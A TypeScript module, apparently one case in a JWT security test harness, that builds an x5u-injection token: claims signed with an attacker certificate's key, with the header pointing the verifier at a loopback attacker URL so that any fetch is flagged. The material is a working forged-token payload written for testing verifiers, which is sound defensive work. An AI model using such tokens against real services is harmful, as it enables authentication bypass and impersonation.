/**
 * x5u-injection — the honest claims signed with the key of the attacker's
 * self-signed certificate, the header's `x5u` (RFC 7515 §4.1.5) pointing at
 * that certificate on loopback. Like jku, a fetch alone is a finding
 * (RFC 8725 §3.10).
 */
import { importPKCS8, SignJWT } from 'jose'
import { ATTACKER_CERT_KEY_PEM } from './attacker-cert.ts'
import { claimsFor } from './jwt-parts.ts'
import { defineAttack } from './types.ts'

export const x5uInjection = defineAttack({
  id: 'x5u-injection',
  summary: 'fetches a certificate from the URL the token names (x5u)',
  refs: ['RFC 7515 §4.1.5', 'RFC 8725 §3.10'],
  async build(kit) {
    const claims = claimsFor(kit.honest, kit.issuer, kit.rs.audience, kit.rs.scope)
    const key = await importPKCS8(ATTACKER_CERT_KEY_PEM, 'ES256')
    const token = await new SignJWT(claims)
      .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', x5u: kit.attacker.x5uUrl })
      .sign(key)
    return {
      applicable: true,
      watchesAttackerUrl: true,
      requests: [{ variant: 'x5u to the attacker certificate', token }],
    }
  },
})
